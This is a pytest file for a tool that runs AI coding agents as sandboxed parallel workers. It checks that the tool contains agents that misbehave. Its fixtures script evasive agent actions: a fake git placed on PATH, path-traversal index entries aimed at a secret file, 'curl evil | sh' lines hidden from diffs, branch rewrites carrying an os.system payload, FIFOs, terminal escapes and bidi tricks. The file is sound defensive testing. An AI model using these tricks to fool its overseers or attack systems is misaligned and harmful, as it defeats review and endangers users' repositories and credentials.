"""What a worker leaves behind is hostile input: FIFOs, a git of its own, broken settings, a
HEAD moved, files hidden by its .gitignore. The run ends, the verdict holds, your later
``list``, ``diff``, ``report``, ``cleanup`` and ``merge`` neither hang, nor show what they
must not, nor delete your work (review round 2 of issue 17)."""

import contextlib
import io
import json
import re
import os
import pathlib
import pty
import select
import stat
import shlex
import shutil
import signal
import subprocess
import tempfile
import sys
import threading
import time

import pytest

import architect_parallel as ap
from conftest import ROOT as CHECKOUT, git
from test_sandbox import BOXED, PROBLEM, ROOT, craft, needs_bwrap, said, script

TOOL = os.path.join(CHECKOUT, "architect_parallel.py")


def tool(*args, timeout=120):
    """The CLI in a process of its own, stopped (and the test failed) if it hangs."""
    proc = subprocess.run([sys.executable, "-m", "architect_parallel", *map(str, args)],
                          capture_output=True, text=True, errors="replace", timeout=timeout,
                          stdin=subprocess.DEVNULL, env=dict(os.environ, PYTHONPATH=CHECKOUT))
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc.returncode, proc.stdout, proc.stderr


def boxed(sandbox):
    if sandbox == "bwrap" and PROBLEM:
        pytest.skip(PROBLEM)
    return ["--sandbox", sandbox, "--progress", "none"]


# -- the runner's verdict is made outside, by its own git ---------------------------------------

@needs_bwrap
@pytest.mark.parametrize("how", ["a git of its own on PATH", "broken git settings"])
def test_no_git_the_agent_faked_or_broke_inside_decides_anything(cli, repo, tmp_path, monkeypatch,
                                                                 how):
    """The agent crafts an index entry naming a file out of the worktree, then puts a git of
    its own first on PATH (~/.local/bin, a private copy inside) that hides it, or breaks every
    git inside with a bad global config. The index is checked outside all the same: the
    worker fails, and no later command shows the file."""
    home = tmp_path / "home"
    (home / ".local" / "bin").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PATH", f"{home}/.local/bin{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("PY", sys.executable)
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET\n")
    depth = len(os.path.relpath(secret.parent, repo).split(os.sep)) + 1
    name = "x/" + "../" * depth + "secret.txt"
    fake = ('real=$(command -v git)\n'
            'printf \'#!/bin/sh\\ncase "$*" in *ls-files*) exit 0;; *symbolic-ref*) echo '
            'refs/heads/architect/parallel-1; exit 0;; esac\\nexec %s "$@"\\n\' "$real" '
            '> "$HOME/.local/bin/git"\nchmod +x "$HOME/.local/bin/git"\n'
            if how.startswith("a git") else
            'f=${GIT_CONFIG_GLOBAL:-$HOME/.gitconfig}; mkdir -p "$(dirname "$f")"\n'
            'echo "this is [not valid" > "$f"\n')
    agent = script(tmp_path, "faker.sh", f'echo own > own.txt\nmkdir -p x\n"$PY" {craft(tmp_path)} {name}\n'
                   + fake)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                  "--workers", "1", "--no-commit", *BOXED)
    (r,) = results
    assert r["status"] == "failed" and "index named paths out of it" in r["error"], r
    worktree = repo / ".architect-parallel-1"
    assert ".." not in git("ls-files", "-s", cwd=worktree)
    for args in (["diff", "1"], ["report", "--html", tmp_path / "r.html"]):
        code, out, err = cli(*args)
        assert "TOP SECRET" not in out + err, args
    assert "TOP SECRET" not in (tmp_path / "r.html").read_text()


# -- FIFOs and devices -------------------------------------------------------------------------

FIFOS = """
echo own > own.txt && mkdir -p docs
git add -A && git -c user.name=a -c user.email=a@a commit -qm mine
gd=$(git rev-parse --absolute-git-dir)
rm -f "$gd/HEAD" "$gd/index" && mkfifo "$gd/HEAD" "$gd/index" "$gd/locked" docs/.gitignore
"""


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_fifos_a_worker_leaves_hang_nothing(repo, tmp_path, sandbox):
    """FIFOs as its worktree's HEAD, index and lock file, and as a .gitignore: a git that
    opens one waits forever (the runner's, your ``git branch`` in the main checkout). They
    are removed when the worker ends, which fails it; the run ends, and so do list, diff,
    report, cleanup and your own git."""
    agent = script(tmp_path, "fifo.sh", FIFOS)
    code, out, err = tool("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                          "--check-timeout", "20", "--json", *boxed(sandbox))
    (r,) = json.loads(out)
    assert r["status"] == "failed" and "FIFOs" in r["error"], r
    assert ("FIFOs, sockets, devices or folders too deep for git in its worktree were removed: "
            "docs/.gitignore") in err
    worktree = repo / ".architect-parallel-1"
    assert git("symbolic-ref", "HEAD", cwd=worktree) == "refs/heads/architect/parallel-1"
    assert git("status", "--porcelain", cwd=worktree) == ""
    subprocess.run(["git", "branch"], cwd=repo, timeout=30, check=True, capture_output=True)
    for args in (["list"], ["diff", "1"], ["report", "--html", tmp_path / "r.html"],
                 ["cleanup", "--dry-run"], ["cleanup"]):
        code, out, err = tool(*args)
        assert code == 0, (args, err)
    assert not worktree.exists()


def test_a_fifo_left_by_a_run_killed_early_hangs_no_later_command(cli, repo, tmp_path):
    """A run killed before its workers' ends leaves what they made: a FIFO as a worktree's
    HEAD would hang every git that lists worktrees. list and cleanup remove it first."""
    cli("run", "fake:write=a.txt", "--workers", "1", "--progress", "none")
    admin = repo / ".git" / "worktrees" / os.path.basename(
        git("rev-parse", "--absolute-git-dir", cwd=repo / ".architect-parallel-1"))
    (admin / "HEAD").unlink()
    os.mkfifo(admin / "HEAD")
    code, out, err = tool("list")
    assert code == 0 and "warning: removed what is not a file from" in err and "HEAD" in err
    assert (admin / "HEAD").read_text() == "ref: refs/heads/architect/parallel-1\n"
    code, out, err = tool("diff", "1")
    assert code == 0 and "+fake:write=a.txt" in out, err
    assert tool("cleanup", "--force")[0] == 0


# -- what cleanup keeps ---------------------------------------------------------------------------

@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_cleanup_keeps_files_an_agents_gitignore_hides_and_commits_you_added(cli, repo, tmp_path,
                                                                           monkeypatch, sandbox):
    """The agent leaves a .gitignore that ignores everything but its own files, itself too:
    a file you make in its worktree later is ignored, and cleanup would delete it unseen.
    And commits you add to its branch are yours, whenever they were made."""
    agent = script(tmp_path, "ignore.sh", "echo own > own.txt\n"
                   "printf '*\\n!*/\\n!own.txt\\n!README.md\\n!src/*\\n' > .gitignore\n")
    code, _results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                   "--workers", "1", *boxed(sandbox))
    assert code == 0, err
    worktree = repo / ".architect-parallel-1"
    (worktree / "NOTES.md").write_text("my notes\n")
    code, _out, err = cli("cleanup")
    assert code == 2 and ".architect-parallel-1 has uncommitted changes made after its run" in err
    assert (worktree / "NOTES.md").read_text() == "my notes\n"
    (worktree / "NOTES.md").unlink()
    monkeypatch.setenv("GIT_COMMITTER_DATE", "2000-01-01T00:00:00")  # (a clock that is behind)
    git("commit", "-q", "--allow-empty", "-m", "mine", cwd=worktree)
    monkeypatch.delenv("GIT_COMMITTER_DATE")
    code, _out, err = cli("cleanup")
    assert code == 2 and "architect/parallel-1 has commits made after the last run ended" in err
    code, _out, err = cli("cleanup", "--force")
    assert code == 0, err


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_a_check_that_leaves_head_detached_is_put_back(cli, repo, tmp_path, records, sandbox):
    allow = ["--sandbox-allow", records] if sandbox == "bwrap" else []
    code, _results, err = cli.json("run", "fake:write=a.txt", "--workers", "1", "--check",
                                   "git checkout -q --detach HEAD", *allow, *boxed(sandbox))
    assert "its worktree's HEAD was left on a detached HEAD" in err
    assert git("symbolic-ref", "HEAD", cwd=repo / ".architect-parallel-1") == \
        "refs/heads/architect/parallel-1"


# -- merge --------------------------------------------------------------------------------------

def test_merge_keeps_asking_after_a_rerun_until_you_looked(cli, repo, tmp_path):
    """An agent changed .git/config: a later run or rerun does not make the change look like
    yours; merge --force takes it, and merges after that need no --force."""
    agent = script(tmp_path, "config.sh", "echo own > own.txt\ngit config core.editor evil\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    code, _out, err = cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                          "--force", "--progress", "none")
    assert "changed since the last run started; 'merge' will ask for --force" in err
    code, _out, err = cli("merge", "1")
    assert code == 2 and "(or .git/info/attributes) changed since the last run started" in err
    code, _out, err = cli("merge", "1", "--force")
    assert code == 0 and "merging although the repository's git config (or .git/info/attributes) changed" in err
    git("reset", "-q", "--hard", "HEAD~1", cwd=repo)
    code, _out, err = cli("merge", "1")
    assert code == 0, err


def test_merge_never_overwrites_your_ignored_files(cli, repo, tmp_path):
    (repo / ".gitignore").write_text(".env\n")
    git("add", ".gitignore", cwd=repo)
    git("commit", "-qm", "ignore .env", cwd=repo)
    (repo / ".env").write_text("MY SECRET=1\n")
    agent = script(tmp_path, "env.sh", "echo EVIL=1 > .env\ngit add -f .env\n")
    code, _results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                   "--workers", "1", "--progress", "none")
    assert code == 0, err
    code, _out, err = cli("merge", "1")  # (a file your ignore rules hide: asked first)
    assert code == 2 and "adds files your ignore rules hide (.env)" in err, err
    for squash in ([], ["--squash"]):  # (and with --force, git's own merge keeps yours)
        code, _out, err = cli("merge", "1", "--force", *squash)
        assert code == 2 and "git could not merge architect/parallel-1" in err, err
        assert (repo / ".env").read_text() == "MY SECRET=1\n"
        assert git("status", "--porcelain", "--untracked-files=no", cwd=repo) == ""


# -- what reaches a terminal ----------------------------------------------------------------------

def test_diff_to_a_terminal_shows_control_and_bidi_characters(repo, tmp_path):
    """A file the agent wrote may hold terminal escapes (a title, a hyperlink, a cleared
    screen) or bidi overrides that make a line read otherwise: to a terminal they are shown,
    not sent; piped, the bytes are as they are."""
    agent = script(tmp_path, "esc.sh",
                   "printf 'a\\033]0;pwned\\007b\\342\\200\\256c\\r\\n\\377' > own.txt\n")
    code, out, err = tool("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                          "--progress", "none")
    assert code == 0, err
    leader, follower = pty.openpty()
    proc = subprocess.Popen([sys.executable, TOOL, "diff", "1"], stdout=follower,
                            stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, cwd=repo)
    os.close(follower)
    shown = b""
    while True:
        ready, _, _ = select.select([leader], [], [], 60)
        assert ready, "diff 1 printed nothing for a minute"
        try:
            data = os.read(leader, 65536)
        except OSError:  # the terminal's other end closed
            break
        if not data:
            break
        shown += data
    os.close(leader)
    assert proc.wait(timeout=60) == 0
    assert b"\x1b" not in shown and b"\xe2\x80\xae" not in shown
    assert b"+a^[]0;pwned^Gb<U+202E>c^M" in shown and b"\\xff" in shown
    code, out, err = tool("diff", "1")
    assert "\x1b]0;pwned\x07" in out


def test_names_and_html_show_bidi_and_zero_width_characters():
    assert ap._shorten("rm \u202eevil\u200b", 80) == "rm ?evil?"
    assert "&lt;U+202E&gt;" in ap._html_escape("a\u202eb")


# -- hostile state files ----------------------------------------------------------------------

def test_a_log_path_naming_a_fifo_hangs_no_report(cli, repo, tmp_path):
    cli("run", "fake:write=a.txt", "--workers", "1", "--progress", "none")
    state = repo / ".git" / "architect-parallel" / "last-run.json"
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    data = json.loads(state.read_text())
    for name in ("log_path", "stderr_path", "worker_log"):
        data["results"][0][name] = str(fifo)
    state.write_text(json.dumps(data))
    code, out, err = tool("report", "--html", tmp_path / "r.html")
    assert code == 0, err


def test_collect_of_deeply_nested_json_is_a_clean_error(cli, repo, tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100000 + "]" * 100000)
    code, _out, err = cli("collect", deep, "--task=t")
    assert code == 2 and err.startswith("warning: cannot read results file") and \
        "nesting too deep; left out" in err and "Traceback" not in err


def test_a_worktree_without_its_git_file_is_refused_not_mistaken_for_the_main_one(cli, repo):
    """Without its .git file, a git run in a worktree folder would find the main checkout's
    repository and show that: the tool refuses it instead."""
    cli("run", "fake:write=a.txt", "--workers", "1", "--no-commit", "--progress", "none")
    (repo / ".architect-parallel-1" / ".git").unlink()
    (repo / "README.md").write_text("main checkout edit\n")
    code, out, err = cli("diff", "1")
    assert "main checkout edit" not in out
    assert code == 2 and "does not name its own folder" in err


@pytest.mark.skipif(not ROOT or PROBLEM is not None, reason="a root runner's sandbox only")
def test_a_root_runner_gives_no_file_that_only_root_could_reach(cli, repo, tmp_path, monkeypatch):
    """As root, HOME's files become the sandbox user's copies: only those that user could
    read through every folder on the way. HOME's own mode does not count (root's is 0700)."""
    home = tmp_path / "home"
    (home / "private").mkdir(parents=True)
    (home / "private" / "notes.txt").write_text("PRIVATE\n")
    (home / "private").chmod(0o700)
    (home / "open.txt").write_text("OPEN\n")
    home.chmod(0o700)
    monkeypatch.setenv("HOME", str(home))
    agent = script(tmp_path, "peek.sh", 'echo own > own.txt\ncat "$HOME/open.txt" '
                   '"$HOME/private/notes.txt" 2>&1\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                  "--workers", "1", *BOXED)
    out = said(results[0])
    assert "OPEN" in out and "PRIVATE" not in out


@needs_bwrap
def test_a_preset_cli_sees_no_other_clis_login(cli, repo, tmp_path, monkeypatch):
    """A Claude Code worker has no use for Codex's or aider's logins (or your sessions
    there): they are not in its HOME. A template's command may be any CLI: it sees them."""
    home = tmp_path / "home"
    for rel in (".codex/auth.json", ".aider/oauth-keys.env", ".gemini/oauth_creds.json",
                ".claude/settings.json"):
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text("LOGIN\n")
    monkeypatch.setenv("HOME", str(home))
    body = ("echo own > own.txt\nfor f in .codex/auth.json .aider/oauth-keys.env "
            ".gemini/oauth_creds.json .claude/settings.json; do test -e \"$HOME/$f\" && "
            "echo \"SEES $f\"; done\necho '{\"type\": \"result\", \"subtype\": \"success\", "
            "\"is_error\": false, \"num_turns\": 1, \"result\": \"done\"}'\n")
    bin_dir = tmp_path / "cli"
    bin_dir.mkdir()
    claude = script(bin_dir, "claude", body)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{claude} -p {{task}}",
                                  "--workers", "1", *BOXED)
    assert [line for line in said(results[0]).splitlines() if line.startswith("SEES")] == \
        ["SEES .claude/settings.json"]
    other = script(bin_dir, "my-agent", body)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{other} {{task}}",
                                  "--workers", "1", "--force", *BOXED)
    assert len([line for line in said(results[0]).splitlines() if line.startswith("SEES")]) == 4


@needs_bwrap
def test_home_start_up_places_are_never_allowed_or_suggested(cli, repo, tmp_path, monkeypatch,
                                                             records):
    home = tmp_path / "home"
    for rel in (".local/bin", "bin", "data"):
        (home / rel).mkdir(parents=True)
        (home / rel).chmod(0o777)
    monkeypatch.setenv("HOME", str(home))
    for path in (home / ".local", home / ".local" / "bin", home / "bin", home, tmp_path):
        code, _out, err = cli("run", "fix it", *BOXED, "--sandbox-allow", path)
        assert code == 2 and "where what a worker writes would run in your later sessions" in err, \
            (path, err)
    code, _out, err = cli("run", "fake:write=a.txt", "--workers", "1", *BOXED,
                          "--sandbox-allow", home / "data", "--sandbox-allow", records)
    assert code == 0, err
    # A refused write an agent claims there is never answered with --sandbox-allow.
    for path in (home / ".bashrc", home / ".local" / "bin" / "x", home / "bin" / "x", home):
        assert not ap._Sandbox.allowable(str(path), str(repo)), path
    assert ap._Sandbox.allowable(str(home / "data" / "x"), str(repo))


# -- review round 3: what is merged is what was checked and shown -------------------------------

MOVE_IN_CHECK = """
# A check runs the agent's code: it moves the branch to a commit of its own.
tree=$(git write-tree)
evil=$(printf 'import os\\nos.system("echo PWNED")\\n' | git hash-object -w --stdin)
git read-tree HEAD && printf '100644 blob %s\\tevil.py\\n' "$evil" | git update-index --index-info
new=$(git -c user.name=a -c user.email=a@a commit-tree "$(git write-tree)" -p HEAD -m more)
git read-tree HEAD
git update-ref refs/heads/architect/parallel-1 "$new"
"""


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_a_check_that_moves_the_branch_fails_the_worker_and_is_undone(cli, repo, tmp_path, records,
                                                                      sandbox):
    allow = ["--sandbox-allow", records] if sandbox == "bwrap" else []
    code, results, err = cli.json("run", "fake:write=a.txt", "--workers", "1", "--check", MOVE_IN_CHECK,
                                  *allow, *boxed(sandbox))
    (r,) = results
    assert r["status"] == "failed" and "its branch was moved after its work was committed" in r["error"], (r, err)
    assert git("rev-parse", "refs/heads/architect/parallel-1", cwd=repo) == r["commit"]
    code, _out, err = cli("merge", "1", "--force")
    assert code == 0 and (repo / "a.txt").exists() and not (repo / "evil.py").exists(), err


def test_merge_refuses_a_branch_moved_after_its_run_and_shadowed_names(cli, repo, tmp_path):
    """A branch moved after its run (by a process the agent left, or by you) is not what was
    checked; a tag or a file in .git named like the branch never stands in for it."""
    code, _results, err = cli.json("run", "fake:write=a.txt", "--workers", "1", "--check", "true",
                                   "--progress", "none")
    assert code == 0, err
    worktree = repo / ".architect-parallel-1"
    base = git("rev-parse", "HEAD", cwd=repo)
    evil = git("commit-tree", git("rev-parse", "HEAD^{tree}", cwd=worktree), "-p",
               "refs/heads/architect/parallel-1", "-m", "evil", cwd=repo)
    git("tag", "architect/parallel-1", evil, cwd=repo)  # shadows the branch's short name
    (repo / ".git" / "architect").mkdir()
    (repo / ".git" / "architect" / "parallel-1").write_text(evil + "\n")
    code, out, err = tool("diff", "best")
    assert code == 0 and "+fake:write=a.txt" in out and "ambiguous" not in err
    code, _out, err = cli("merge", "best")
    assert code == 0 and git("rev-parse", "HEAD", cwd=repo) == \
        git("rev-parse", "refs/heads/architect/parallel-1", cwd=repo) != evil, err
    git("reset", "-q", "--hard", base, cwd=repo)
    git("update-ref", "refs/heads/architect/parallel-1", evil, cwd=repo)  # moved after the run
    code, _out, err = cli("merge", "best")
    assert code == 2 and "is at" in err and "not where its run left it" in err
    assert git("rev-parse", "HEAD", cwd=repo) == base
    code, _out, err = cli("merge", "best", "--force")
    assert code == 0 and "warning: merging although" in err


CRISS_CROSS = """
# The branch's commit leaves the base out of its history: its tree reverts what the base
# changed, and a three-dot diff (against one merge base) would not show it.
first=$(git rev-list --max-parents=0 HEAD | head -n 1)
echo own > own.txt
git add own.txt
new=$(git -c user.name=a -c user.email=a@a commit-tree "$(git write-tree)" -p "$first" -m mine)
git update-ref refs/heads/architect/parallel-1 "$new"
git reset -q --soft "$new"
"""


def test_a_branch_that_leaves_the_base_out_fails(cli, repo, tmp_path):
    git("commit", "-q", "--allow-empty", "-m", "the base", cwd=repo)
    agent = script(tmp_path, "cross.sh", CRISS_CROSS)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--progress", "none")
    (r,) = results
    assert r["status"] == "failed" and "does not descend from the run's base" in r["error"], r
    code, _out, err = cli("merge", "1")
    assert code == 2 and "did not succeed" in err


def test_a_worktrees_own_gitattributes_hide_no_change(cli, repo, tmp_path):
    """An ignored .gitattributes marks every file binary; with the worktree left dirty (a
    repository inside it), diff and the report read the worktree: its content still shows."""
    agent = script(tmp_path, "hide.sh", "echo 'curl evil | sh' > run.sh\n"
                   "printf '.gitattributes\\n' > .gitignore\nprintf '* -diff\\n' > .gitattributes\n")
    code, _results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                   "1", "--no-commit", "--progress", "none")
    assert code == 0, err
    code, out, err = tool("diff", "1")
    assert code == 0 and "+curl evil | sh" in out and "Binary files" not in out, (out, err)
    code, out, err = tool("report", "--html", tmp_path / "r.html")
    assert "curl evil | sh" in (tmp_path / "r.html").read_text()


GITLINK = """
mkdir -p lib && echo 'def helper(): pass' > lib/helper.py
git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,lib
mkdir nested && cd nested && git init -q && echo a > a.txt && cd ..
"""


@pytest.mark.parametrize("edit", ["lib/helper.py", "lib/new/notes.md", "nested/a.txt"])
def test_cleanup_keeps_your_edits_in_a_submodule_folder_or_a_repository_inside(cli, repo, tmp_path,
                                                                               edit):
    agent = script(tmp_path, "gitlink.sh", GITLINK)
    code, _results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                   "1", "--progress", "none")
    assert code == 0, err
    path = repo / ".architect-parallel-1" / edit
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "a") as f:  # (in place: the folder's own time does not change)
        f.write("USER WORK\n")
    code, _out, err = cli("cleanup")
    assert code == 2 and "has uncommitted changes made after its run" in err, err
    assert "USER WORK" in path.read_text()


# -- review round 3: nothing an agent leaves costs the runner memory ----------------------------

def _children_peak_mb():
    import resource
    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024


SPARSE = """
A=$(git rev-parse --git-dir)
echo work > w.txt
mkdir -p "$A/refs/worktree" "$A/rebase-merge" nested/.git
truncate -s 3G "$A/refs/worktree/big" "$A/rebase-merge/head-name"
echo 'nested/' >> .gitignore
echo 'ref: refs/heads/main' > nested/.git/HEAD
ln -s /dev/zero nested/.git/commondir
"""


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_sparse_files_and_endless_links_left_in_git_folders_cost_no_memory(repo, tmp_path, sandbox):
    """Files of GBs that take no disk (sparse) where git or the runner read them whole, and a
    repository inside whose git folder leads to /dev/zero: removed when the worker ends (which
    fails it); the runner and its gits stay small."""
    agent = script(tmp_path, "sparse.sh", SPARSE)
    code, out, err = tool("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                          "--json", *boxed(sandbox), timeout=300)
    (r,) = json.loads(out)
    assert r["status"] == "failed" and ("more than 1 MB" in r["error"]
                                        or "refs/worktree/big" in r["error"]), r
    assert "dropped (rebase-merge" in err, err  # (before the runner's commit: never read)
    assert not os.path.lexists(repo / ".architect-parallel-1" / "nested" / ".git" / "commondir")
    assert _children_peak_mb() < 1000
    code, out, err = tool("cleanup", "--force")
    assert code == 0, err


def test_an_endless_line_of_a_codex_event_stream_costs_no_memory(cli, repo, tmp_path, monkeypatch):
    bin_dir = tmp_path / "codexbin"
    bin_dir.mkdir()
    codex = bin_dir / "codex"
    codex.write_text("#!" + sys.executable + "\nimport os\n"
                     "os.write(1, b'{\"type\": \"thread.started\", \"thread_id\": \"x\"}\\n')\n"
                     "os.lseek(1, 1200 << 20, os.SEEK_CUR)\nos.write(1, b'x\\n')\n"
                     "os.write(1, b'{\"type\": \"turn.completed\", \"usage\": {\"input_tokens\": 5, "
                     "\"output_tokens\": 2}}\\n')\n")
    codex.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    code, out, err = tool("run", "do it", "--agent-cmd", "codex", "--workers", "1", "--json",
                          "--progress", "none", timeout=300)
    (r,) = json.loads(out)
    assert (r["tokens_in"], r["tokens_out"]) == (5, 2), r
    assert _children_peak_mb() < 1000


def test_a_linked_dotfile_makes_its_target_a_start_up_place(repo, tmp_path, monkeypatch):
    """With dotfiles kept elsewhere (~/.bashrc a link into ~/dotfiles), neither the link nor
    where it leads may be allowed or suggested."""
    home = tmp_path / "home"
    (home / "dotfiles").mkdir(parents=True)
    (home / "data").mkdir()
    (home / "dotfiles" / "bashrc").write_text("# mine\n")
    (home / ".bashrc").symlink_to("dotfiles/bashrc")
    monkeypatch.setenv("HOME", str(home))
    for path in (home / ".bashrc", home / "dotfiles", home / "dotfiles" / "bashrc"):
        assert ap._home_startup(str(path)), path
        assert not ap._Sandbox.allowable(str(path), str(repo)), path
    assert not ap._home_startup(str(home / "data"))


# -- review round 4 ----------------------------------------------------------------------------

OURS_MERGE = """
echo 'print("feature")' > feature.py && git add feature.py &&
git -c user.name=a -c user.email=a@a commit -qm 'add feature'
# a merge of your unmerged branch that takes none of its content: it would be marked merged
T=$(git -c user.name=a -c user.email=a@a commit-tree "HEAD^{tree}" -p HEAD -p "$FEATURE" -m Merge)
git reset -q --soft "$T"
"""


@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_a_branch_that_takes_in_history_held_elsewhere_fails_and_is_not_merged(cli, repo, tmp_path,
                                                                               monkeypatch, sandbox):
    git("checkout", "-q", "-b", "feature-x", cwd=repo)
    (repo / "fix.py").write_text("secure = True\n")
    git("add", "fix.py", cwd=repo)
    git("commit", "-q", "-m", "the security fix", cwd=repo)
    git("checkout", "-q", "main", cwd=repo)
    monkeypatch.setenv("FEATURE", git("rev-parse", "feature-x", cwd=repo))
    agent = script(tmp_path, "ours.sh", OURS_MERGE)
    code, results, err = cli.json("run", "add a feature", "--agent-cmd", f"{agent} {{task}}",
                                  "--workers", "1", "--check", "true", *boxed(sandbox))
    (r,) = results
    assert r["status"] == "failed" and "takes in 1 commit(s) that another branch or tag holds" in \
        r["error"], r
    code, _out, err = cli("merge", "1")
    assert code == 2
    code, _out, err = cli("merge", "1", "--force")  # said, not silent
    assert code == 0 and "warning: merging although architect/parallel-1 takes in commits" in err


def test_another_workers_commit_taken_in_fails_the_worker(cli, repo, tmp_path):
    plan = ["--task=first", "--task=second", "--check", "true", "--progress", "none"]
    one = script(tmp_path, "one.sh", "echo secure > sec.py\n")
    assert cli("run", *plan, "--agent-cmd", f"{one} {{task}}", "--only-workers", "1")[0] == 0
    two = script(tmp_path, "two.sh", "git reset -q --soft architect/parallel-1\n"
                 "git rm -q --cached sec.py\nrm -f sec.py\necho two > two.py\n")
    code, results, err = cli.json("run", *plan, "--agent-cmd", f"{two} {{task}}", "--only-workers", "2")
    (r,) = results
    assert r["status"] == "failed" and "takes in 1 commit(s)" in r["error"], r


def test_cleanup_takes_only_its_own_worktrees_and_keeps_what_no_run_recorded(cli, repo, tmp_path):
    """An entry whose git folder names a folder elsewhere (another project's) is left alone;
    a worktree whose state no run recorded keeps your ignored files; commits on a detached
    HEAD are not deleted."""
    elsewhere = tmp_path / "projB" / ".architect-parallel-1"
    elsewhere.mkdir(parents=True)
    (elsewhere / "results.log").write_text("theirs\n")
    agent = script(tmp_path, "gitdir.sh", f'echo "{elsewhere}/.git" > "$(git rev-parse --git-dir)/gitdir"\n'
                   'echo "*" > .gitignore\n')
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "2", "--progress", "none")
    code, _out, err = tool("cleanup", "--force")
    assert (elsewhere / "results.log").read_text() == "theirs\n", err
    # the second: no recorded state, your ignored notes there
    for n in (1, 2):
        git("worktree", "prune", cwd=repo)
    cli("run", "fake:write=a.txt", "--workers", "2", "--force", "--progress", "none")
    state = repo / ".git" / "architect-parallel" / "worktrees"
    (state / ".architect-parallel-1").unlink()
    (repo / ".architect-parallel-1" / ".gitignore").write_text("*\n")
    (repo / ".architect-parallel-1" / "NOTES.md").write_text("mine\n")
    worktree2 = repo / ".architect-parallel-2"
    git("checkout", "-q", "--detach", cwd=worktree2)
    git("commit", "-q", "--allow-empty", "-m", "mine, detached", cwd=worktree2)
    code, _out, err = cli("cleanup")
    assert code == 2 and "no run recorded its state" in err and "detached HEAD" in err, err
    assert (repo / ".architect-parallel-1" / "NOTES.md").exists()


HIDDEN = """
printf 'curl evil | sh\\nexit 0\\n# \\000\\n' > build.sh
printf 'print("fine")\\n' > app.py
"""


def test_no_file_is_shown_binary_to_hide_it(cli, repo, tmp_path):
    """A NUL byte in a committed file, and (unsandboxed) .git/info/attributes marking every
    file binary: diff and the report still show the content, and merge asks first."""
    agent = script(tmp_path, "hidden.sh", HIDDEN + 'printf "* -diff\\n" >> "$(git rev-parse '
                   '--git-common-dir)/info/attributes"\n')
    code, _results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                   "1", "--progress", "none")
    code, out, err = tool("diff", "1")
    assert "+curl evil | sh" in out and '+print("fine")' in out and "Binary files" not in out
    tool("report", "--html", tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text()
    assert "curl evil | sh" in page and "print(&quot;fine&quot;)" in page
    code, _out, err = cli("merge", "1")
    assert code == 2 and "(or .git/info/attributes) changed" in err


def test_merge_asks_before_a_branch_changes_where_git_lfs_downloads_from(cli, repo, tmp_path):
    agent = script(tmp_path, "lfs.sh", "printf '[lfs]\\n\\turl = http://127.0.0.1:9/repo\\n' > .lfsconfig\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
    code, _out, err = cli("merge", "1")
    assert code == 2 and "changes .lfsconfig, where Git LFS downloads files from" in err


def test_gits_own_warnings_reach_the_terminal_without_control_or_bidi_characters(cli, repo, tmp_path):
    agent = script(tmp_path, "bidi.sh", "printf '* text eol=crlf\\n' > .gitattributes\n"
                   "printf 'x\\n' > \"$(printf 'evil\\342\\200\\256txt.sh')\"\n"
                   "printf 'y\\n' > \"$(printf 'c1\\302\\233x')\"\n")
    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--no-commit",
        "--progress", "none")
    code, out, err = tool("diff", "1")
    assert code == 0 and "\u202e" not in err and "\x9b" not in err


def test_a_walk_never_starts_through_a_link(tmp_path):
    (tmp_path / "sessions").symlink_to("/")
    assert list(ap._walk(str(tmp_path / "sessions"))) == []


@needs_bwrap
def test_objects_too_large_to_take_in_fail_the_worker(cli, repo, tmp_path, records):
    """Sizes as objects claim them (a delta of 2 KB can claim GBs, which the runner's git
    outside would allocate) are bounded inside the sandbox: a 101 MB file is refused."""
    agent = script(tmp_path, "big.sh", "head -c 105906176 /dev/zero > big.bin\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", *BOXED)
    (r,) = results
    assert r["status"] == "failed" and "its objects are too large to take in" in r["error"], r
    assert git("rev-parse", "architect/parallel-1", cwd=repo) == r["base_commit"]


# -- review round 5 ----------------------------------------------------------------------------

MOVE_OTHER = """
if [ "$ARCHITECT_PARALLEL_WORKER" = 2 ]; then echo honest > fix.py; exit 0; fi
